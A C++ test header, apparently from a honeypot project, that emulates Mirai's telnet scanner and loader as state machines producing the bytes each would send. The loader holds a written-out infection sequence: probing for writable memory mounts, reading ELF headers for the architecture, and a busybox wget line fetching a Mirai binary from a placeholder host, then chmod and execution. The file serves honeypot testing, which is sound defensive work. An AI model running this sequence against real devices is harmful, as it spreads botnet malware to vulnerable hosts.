#pragma once
#include <algorithm>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace nightjar::test {

// Two peers of 2016, as Mirai's published source describes them (mirai/bot/scanner.c, loader/src/server.c): states, what each waits for,
// what it sends. Only what goes over the wire; nothing of theirs can do harm here.

/// The scanner: finds a login. Feed it what the honeypot says; it returns what it says back.
class MiraiScanner {
 public:
  enum class State : std::uint8_t { negotiation, user, password, after_password, enable, system, shell, sh, token, found, failed };
  MiraiScanner(std::string user, std::string password) : user_(std::move(user)), password_(std::move(password)) {}

  State state() const { return state_; }

  std::string hear(std::string_view bytes) {
    said_ += bytes;
    std::string answer;
    for (bool moved = true; moved;) moved = step(answer);
    return answer;
  }

 private:
  bool step(std::string& answer) {
    switch (state_) {
      case State::negotiation:
        if (!negotiate(answer)) return false;
        state_ = State::user;
        return true;
      case State::user: return on_prompt({"ogin", "enter"}, user_, State::password, answer);
      case State::password: return on_prompt({"assword"}, password_, State::after_password, answer);
      case State::after_password:
        if (said_.find("ncorrect") != said_.npos) return state_ = State::failed, false;
        return on_prompt({}, "enable", State::enable, answer);
      case State::enable: return on_prompt({}, "system", State::system, answer);
      case State::system: return on_prompt({}, "shell", State::shell, answer);
      case State::shell: return on_prompt({}, "sh", State::sh, answer);
      case State::sh: return on_prompt({}, "/bin/busybox MIRAI", State::token, answer);
      case State::token:
        if (said_.find("MIRAI: applet not found") == said_.npos) return false;
        state_ = State::found;
        return false;
      case State::found:
      case State::failed: return false;
    }
    return false;
  }

  /// Commands of telnet at the front: "DO NAWS" gets "WILL NAWS" and 80 columns, 24 lines; others are refused. False: none came yet.
  bool negotiate(std::string& answer) {
    bool any = false;
    while (said_.size() >= 3 && said_[0] == '\xff') {
      const char verb = said_[1], option = said_[2];
      if (verb == '\xfd' && option == '\x1f') {
        answer += std::string("\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0", 12);
      } else {
        answer += {'\xff', verb == '\xfd' ? '\xfc' : '\xfe', option};
      }
      said_.erase(0, 3);
      any = true;
    }
    return any;
  }

  /// A prompt is one of : > $ # % somewhere near the end, or one of the words.
  bool on_prompt(const std::vector<std::string_view>& words, std::string_view line, State next, std::string& answer) {
    bool asked = said_.find_last_of(":>$#%") != said_.npos;
    for (const std::string_view word : words) asked = asked || said_.find(word) != said_.npos;
    if (!asked) return false;
    said_.clear();
    answer += std::string(line) + "\r\n";
    state_ = next;
    return true;
  }

  std::string user_, password_, said_;
  State state_ = State::negotiation;
};

/// The loader: comes with a login that works, looks around and fetches the malware.
class MiraiLoader {
 public:
  MiraiLoader(std::string user, std::string password) : user_(std::move(user)), password_(std::move(password)) {}

  bool done() const { return at_ == kRun + 1; }
  std::string folder, architecture, way;  ///< what it found out

  std::string hear(std::string_view bytes) {
    said_ += bytes;
    if (at_ == 0) {
      if (!said_.starts_with('\xff') || said_.find_last_of(':') == said_.npos) return {};  // as the scanner
      return next(user_);
    }
    if (at_ == 1) return said_.find("assword") == said_.npos ? "" : next(password_);
    if (at_ == 2) return said_.find_last_of(">$#%") == said_.npos ? "" : next("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI");
    // From here on each step ends with the words that no shell says by itself.
    const std::size_t end = said_.find("ECCHI: applet not found");
    if (end == said_.npos) return {};
    const std::string answer = said_.substr(0, end);
    said_.erase(0, end + 23);
    switch (at_) {
      case 3: return next("/bin/busybox ps; /bin/busybox ECCHI");
      case 4: return answer.find("init") == answer.npos ? "" : next("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI");
      case 5: return try_folders(answer);
      case 6: return choose_folder(answer);
      case 7: return next("/bin/busybox cat /bin/echo; /bin/busybox ECCHI");
      case 8: return read_header(answer);
      case 9:
        way = answer.find("wget: applet not found") == answer.npos   ? "wget"
              : answer.find("tftp: applet not found") == answer.npos ? "tftp"
                                                                     : "echo";
        return next("/bin/busybox wget http://198.51.100.7:80/bins/mirai." + architecture +
                    " -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
      case 10: return next("./dvrHelper telnet." + architecture + "; /bin/busybox ECCHI");
      case kRun: ++at_; return {};
      default: return {};
    }
  }

 private:
  static constexpr int kRun = 11;
  std::string next(const std::string& line) {
    ++at_;
    if (at_ <= 3) said_.clear();
    return line + "\r\n";
  }
  /// Lines of file systems in memory that may be written to: a file is made in each, and read again.
  std::string try_folders(const std::string& mounts) {
    std::string commands;
    for (std::size_t at = 0; at < mounts.size();) {
      const std::size_t end = std::min(mounts.find('\n', at), mounts.size());
      const std::string line = mounts.substr(at, end - at);
      at = end + 1;
      if (!line.starts_with("tmpfs ") && !line.starts_with("ramfs ")) continue;
      const std::string path = line.substr(6, line.find(' ', 6) - 6);
      if (line.find(" rw") == line.npos) continue;
      commands += "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69" + path + "' > " + path + "/.nippon; /bin/busybox cat " + path +
                  "/.nippon; /bin/busybox rm " + path + "/.nippon\r\n";
    }
    return commands.empty() ? "" : next(commands + "/bin/busybox ECCHI");
  }
  std::string choose_folder(const std::string& answer) {
    const std::size_t at = answer.find("\nkami/");
    if (at == answer.npos) return {};
    folder = answer.substr(at + 5, answer.find('\r', at) - at - 5);
    return next("cd " + folder +
                "/\r\n/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
  }
  /// ELF: class, byte order, machine (System V ABI).
  std::string read_header(const std::string& answer) {
    const std::size_t at = answer.find(
        "\x7f"
        "ELF");
    if (at == answer.npos || answer.size() - at < 52) return {};
    const auto byte = [&](std::size_t i) { return static_cast<unsigned>(static_cast<std::uint8_t>(answer[at + i])); };
    const bool big = byte(5) == 2;
    const unsigned machine = big ? byte(18) << 8 | byte(19) : byte(19) << 8 | byte(18);
    architecture = machine == 40 ? "arm" : machine == 8 ? (big ? "mips" : "mpsl") : "";
    return architecture.empty() ? "" : next("/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
  }

  std::string user_, password_, said_;
  int at_ = 0;
};

}  // namespace nightjar::test
